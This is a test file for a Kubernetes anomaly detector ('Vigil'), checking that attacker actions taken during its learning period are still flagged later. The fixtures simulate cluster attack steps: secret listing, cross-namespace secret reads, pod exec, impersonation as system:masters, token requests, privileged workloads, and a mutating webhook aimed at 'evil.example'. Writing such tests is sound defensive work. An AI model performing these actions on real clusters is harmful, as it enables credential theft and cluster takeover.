import { expect } from 'chai';
import { createDetector } from '../../operator/anomalies/detector.ts';
import type { BaselineDocument } from '../../operator/anomalies/anomaly-detector.ts';
import { http } from './http.ts';
import { managedBy, object, podSpec, workload } from './objects.ts';
import { account as sa, day, World } from './world.ts';
import { exec } from './traces/trace.ts';

const web = sa('shop', 'web');
type Act = (world: World) => void;

/** What an attacker does once while Vigil learns, so that it is normal later. */
const acts: readonly (readonly [title: string, act: Act, detection: string, severity: string])[] = [
  ['lists the Secrets of all namespaces', (world) => http(world, 'eve', 'GET /api/v1/secrets'), 'cluster-wide-secret-list', 'medium'],
  ['reads a Secret of another namespace', (world) => http(world, web, 'GET /api/v1/namespaces/bank/secrets/db'), 'secret-read', 'low'],
  ['opens a session', (world) => exec(world, 'eve', ['sh']), 'exec-into-pod', 'low'],
  ['calls a kubelet', (world) => http(world, 'eve', 'GET /api/v1/nodes/node-a/proxy/pods'), 'node-proxy', 'medium'],
  ['acts as another user', (world) => http(world, 'eve', 'GET /api/v1/pods', { as: 'admin' }), 'impersonation', 'medium'],
  [
    'requests a token',
    (world) => http(world, 'eve', 'POST /api/v1/namespaces/kube-system/serviceaccounts/x/token'),
    'token-request',
    'medium',
  ],
  [
    'makes a DaemonSet',
    (world) => world.write('eve', workload('DaemonSet', `shop/agent${world.now}`, podSpec('docker.io/library/agent'))),
    'daemonset-by-new-actor',
    'low',
  ],
  ['makes a workload of a field manager', (world) => world.write('eve', privileged(`shop/x${world.now}`)), 'new-host-access', 'medium'],
];

const privileged = (path: string) =>
  workload('Deployment', path, podSpec('docker.io/library/agent', {}, { securityContext: { privileged: true } }), {
    metadata: managedBy('kubectl-create'),
  });

/** A detector that begins to learn for a week, with users that it has known for two days. */
function learning(): World {
  const world = new World({ learningPeriod: 7 * day });
  world.now -= 10 * day;
  for (let days = 0; days < 3; days += 1) {
    world.found(object('Namespace', `team-${'abc'[days] ?? ''}`));
    for (const user of ['eve', 'alice', web]) http(world, user, 'GET /api/v1/namespaces/shop/pods');
    world.wait(day);
  }
  return world;
}

const found = (world: World, detection: string): readonly string[] => world.of(detection).map(({ severity }) => severity);

describe('an attacker who acts while Vigil learns', () => {
  for (const [title, act, detection, severity] of acts) {
    it(`is reported later, one severity lower: ${title}`, () => {
      const world = learning();
      act(world);
      expect(found(world, detection)).to.deep.equal([]);
      world.wait(5 * day);
      act(world);
      const findings = world.of(detection);
      expect(findings.map((each) => each.severity)).to.deep.equal([severity]);
      expect(findings[0]?.normal).to.match(/^it was seen on one day only, \d{4}-\d\d-\d\d, while Vigil was learning$/);
    });

    it(`did it for work if it was done on two days: ${title}`, () => {
      const world = learning();
      act(world);
      world.wait(day);
      act(world);
      world.wait(5 * day);
      act(world);
      expect(found(world, detection)).to.deep.equal([]);
    });
  }

  it('is remembered by a successor of the detector', () => {
    const world = learning();
    http(world, 'eve', 'GET /api/v1/secrets');
    const documents = JSON.parse(JSON.stringify(world.detector.save(world.now))) as BaselineDocument[];
    const successor = createDetector({ learningPeriod: 7 * day, keepFor: 7 * day });
    expect(successor.load(documents, world.now).problems).to.deep.equal([]);
    const later = new World({ learningPeriod: 7 * day }, world.now, successor);
    later.wait(5 * day);
    http(later, 'eve', 'GET /api/v1/secrets');
    expect(found(later, 'cluster-wide-secret-list')).to.deep.equal(['medium']);
  });

  it('is reported at once for what has the highest severity', () => {
    const world = learning();
    http(world, 'eve', 'GET /api/v1/pods', { as: 'x', asGroups: ['system:masters', 'system:authenticated'] });
    world.write(
      'eve',
      object('MutatingWebhookConfiguration', 'x', {
        webhooks: [{ clientConfig: { url: 'https://evil.example/m' }, rules: [{ apiGroups: [''], resources: ['pods'] }] }],
      }),
    );
    expect([...found(world, 'impersonation'), ...found(world, 'webhook-configuration')]).to.deep.equal(['critical', 'critical']);
  });

  it('becomes normal after three quiet days, as what is not sensitive does', () => {
    const world = learning();
    const act: Act = (each) => http(each, 'eve', 'GET /api/v1/nodes/node-a/proxy/pods');
    act(world);
    world.wait(5 * day);
    act(world);
    world.wait(4 * day);
    act(world);
    expect(world.of('node-proxy').map(({ count }) => count)).to.deep.equal([1]);
  });

  it('says nothing of one who does the same elsewhere on many days', () => {
    const world = learning();
    for (let days = 0; days < 2; days += 1) {
      exec(world, 'alice', ['sh'], { pod: 'shop/pods/cart-5d4f8c7b9-x2k4v' });
      world.wait(day);
    }
    exec(world, 'alice', ['sh']);
    world.wait(5 * day);
    exec(world, 'alice', ['sh']);
    expect(found(world, 'exec-into-pod')).to.deep.equal([]);
  });
});
